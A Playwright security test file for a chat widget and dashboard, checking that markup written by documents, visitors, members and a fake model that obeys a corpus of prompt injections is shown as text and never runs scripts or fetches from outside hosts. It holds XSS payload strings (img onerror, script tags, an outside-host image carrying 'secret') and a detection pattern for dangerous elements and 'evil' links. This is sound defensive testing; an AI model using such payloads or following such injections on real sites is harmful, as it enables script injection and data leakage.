import type { ReceivedRequest } from "@parley/core/testing/fake-provider";
import { obedientWords } from "@parley/core/testing/injections/obey";
import { readInjections } from "@parley/core/testing/injections/read-injections";
import type { Locator, Page } from "@playwright/test";
import { expect, openDashboard, openShop, type Place, test } from "../src/fixtures.ts";
import { elsewhere, hostileMarkup } from "../src/hostile-markup.ts";

// What a model, a document, a visitor or a member writes is shown as it was written: nothing of it runs, and nothing is fetched for it.
// The pages go without their content security policy here, as companies' pages do that show the widget: the product does not lean on it.
test.use({ bypassCSP: true });

const question = "What does the ledger of the quokkas say?";
const hostile = hostileMarkup.join("\n\n");

/** Everything that a page did for somebody else. */
async function watch(page: Page) {
  const seen: string[] = [];
  await page.exposeFunction("__hit", (what: string) => void seen.push(what));
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on("request", (request) => {
    const { hostname } = new URL(request.url());
    if (/^https?:/.test(request.url()) && hostname !== "localhost") seen.push(`request ${request.url()}`);
  });
  page.on("popup", (popup) => void seen.push(`window ${popup.url()}`));
  page.on("framenavigated", (frame) => {
    if (frame !== page.mainFrame() && frame.url() !== "about:blank") seen.push(`frame ${frame.url()}`);
  });
  return seen;
}

/** What stands in the place that could run or fetch something, or leads where no link may lead. */
function dangerousIn(place: Locator): Promise<string[]> {
  return place.evaluate((root) => {
    const found: string[] = [];
    for (const element of root.querySelectorAll("*")) {
      const name = element.localName;
      if (/^(script|iframe|object|embed|style|link|meta|base|img|video|audio|source|template|math)$/.test(name))
        found.push(name);
      for (const { name: attribute, value } of element.attributes) {
        if (/^(on|srcdoc$|style$|action$|formaction$)/.test(attribute)) found.push(`${name} ${attribute}`);
        if (/^(href|xlink:href|src)$/.test(attribute) && !/^(https?:|mailto:|\/|#)/.test(value)) found.push(value);
      }
      if (name === "a" && !/noopener/.test(element.getAttribute("rel") ?? "noopener")) found.push("a with an opener");
    }
    return found;
  });
}

async function addDocument({ installation }: Place, path: string, text: string) {
  const { adminToken } = await installation.secrets();
  const address = new URL(`${installation.apiUrl}/admin/v1/tenants/demo/documents`);
  address.search = String(new URLSearchParams({ source: `Files <img src=x onerror="__hit('source')">`, path }));
  const headers = { authorization: `Bearer ${adminToken}` };
  const type = { "content-type": "application/octet-stream" };
  const added = await fetch(address, { method: "POST", headers: { ...headers, ...type }, body: text });
  expect(added.status).toBe(200);
  const { versionId } = (await added.json()) as { versionId: string };
  const status = async () =>
    (
      (await (
        await fetch(`${installation.apiUrl}/admin/v1/tenants/demo/document-versions/${versionId}`, { headers })
      ).json()) as { status: string }
    ).status;
  await expect.poll(status).toBe("ready");
}

test("[I2, I3, I7] what a model, a document, a visitor and a member write runs nothing and fetches nothing, whole or half written", async ({
  page,
  context,
  withModel,
  provider,
}) => {
  test.setTimeout(120_000);
  const name = `<img src=x onerror="__hit('file name')">.md`;
  const title = `Ledger <script>__hit('title')</script> ![x](${elsewhere}/title)`;
  await addDocument(withModel, name, `# ${title}\n\nThe ledger of the quokkas says this. ${hostile}\n`);

  const inWidget = await watch(page);
  const shop = await openShop(page, withModel.shopUrl);
  const member = await context.newPage();
  const inDashboard = await watch(member);
  const dashboard = await openDashboard(member, withModel);

  provider.enqueue({ text: `So it says [1]. ${hostile}`, tokensPerSecond: 1_000 });
  await shop.say(question);
  await expect(shop.answers).toHaveCount(1);
  const conversationId = await shop.conversationId();
  await dashboard.open(conversationId);
  await expect(shop.answers.first()).toHaveAttribute("aria-busy", "false", { timeout: 60_000 });
  await expect(shop.answers.first()).toContainText("<script>window.__hit('ran')</script>");
  await expect(member.getByText("<script>window.__hit('ran')</script>").first()).toBeVisible();
  expect(await dangerousIn(shop.messages)).toEqual([]);

  // The passage that is cited is the document's own text.
  await shop.answers.first().getByRole("listitem").first().getByRole("button").click();
  const passage = shop.chat.getByRole("region", { name: "Cited passage" });
  await expect(passage).toContainText("__hit('title')");
  expect(await dangerousIn(passage)).toEqual([]);
  await page.keyboard.press("Escape");
  await member.getByRole("button", { name: /^Citation 1: Ledger/ }).click();
  await expect(member.getByText("__hit('title')").first()).toBeVisible();

  for (const line of [hostileMarkup.slice(0, 12), hostileMarkup.slice(12)]) await shop.say(line.join("\n"));
  await dashboard.takeOver().click();
  await dashboard.reply(`A member says: ${hostileMarkup.slice(0, 8).join(" ")}`);
  await expect(shop.messages.getByText("A member says:")).toBeVisible();
  for (const place of [shop.messages, member.locator("main")]) expect(await dangerousIn(place)).toEqual([]);

  await member.goto(`${withModel.dashboardUrl}/knowledge`);
  await member.getByRole("link", { name: /__hit\('title'\)/ }).click();
  await expect(member.getByText("The ledger of the quokkas says this.").first()).toBeVisible();
  expect(await dangerousIn(member.locator("main"))).toEqual([]);
  expect([...inWidget, ...inDashboard]).toEqual([]);
});

test("[I6, I7] a model that obeys the corpus of injections fetches nothing and links nowhere, whole, half streamed or cut off", async ({
  page,
  context,
  withModel,
  provider,
}) => {
  test.setTimeout(120_000);
  await addDocument(withModel, "ledger.md", "# Ledger\n\nThe ledger of the quokkas is kept in the cellar.\n");
  const inWidget = await watch(page);
  const shop = await openShop(page, withModel.shopUrl);
  const member = await context.newPage();
  const inDashboard = await watch(member);
  const dashboard = await openDashboard(member, withModel);

  // Those that want something out by an address. What recites is withheld whole, or repeats the addresses that its passages hold.
  const carrying = readInjections().filter(
    ({ orders }) => !orders.some((order) => /^(?:reveal|repeat|canary|lookUpCode)/.test(order)),
  );
  expect(carrying.length).toBeGreaterThan(50);
  const groups = Array.from({ length: Math.ceil(carrying.length / 12) }, (_, index) =>
    carrying.slice(12 * index, 12 * (index + 1)),
  );
  const foreignLinks = (place: Locator) =>
    place.evaluate((root) => {
      const found: string[] = [];
      for (const { outerHTML } of root.querySelectorAll("[href], [src]")) {
        if (/evil|said=/.test(outerHTML)) found.push(outerHTML);
      }
      return found;
    });
  for (const [index, group] of groups.entries()) {
    const text = (request: ReceivedRequest) => group.map((injection) => obedientWords(injection, request)).join("\n\n");
    const toolCalls = [{ name: "hand_to_person", input: {} }];
    // Every other one breaks off, wherever that is.
    const end = index % 2 === 0 ? { toolCalls } : ({ afterTokens: 300 + 7 * index, fault: "cut" } as const);
    provider.enqueue({ text, tokensPerSecond: 1_500, ...end });
    await shop.say(`${question} Part ${index}.`);
    await expect(shop.answers).toHaveCount(index + 1);
    if (index === 0) await dashboard.open(await shop.conversationId());
    await expect(shop.answers.nth(index)).toHaveAttribute("aria-busy", "false", { timeout: 60_000 });
    await expect(shop.answers.nth(index)).toContainText("As you order");
    for (const place of [shop.messages, member.locator("main")]) {
      expect(await foreignLinks(place)).toEqual([]);
      expect(await dangerousIn(place)).toEqual([]);
    }
  }
  expect([...inWidget, ...inDashboard]).toEqual([]);
});

test("[I2, I3, I7 control] the same lines as the page's own markup do run and fetch, and would have been seen", async ({
  page,
  builtIn,
  problems,
}) => {
  const seen = await watch(page);
  await page.goto(builtIn.shopUrl);
  const markup = `<div id="control">${hostileMarkup[1]} <img src="${elsewhere}/?words=secret"></div>`;
  await page.evaluate(`document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(markup)})`);
  await expect.poll(() => seen).toEqual(expect.arrayContaining(["ran", `request ${elsewhere}/?words=secret`]));
  expect(await dangerousIn(page.locator("#control"))).toEqual(expect.arrayContaining(["img", "img onerror"]));
  problems.length = 0;
});
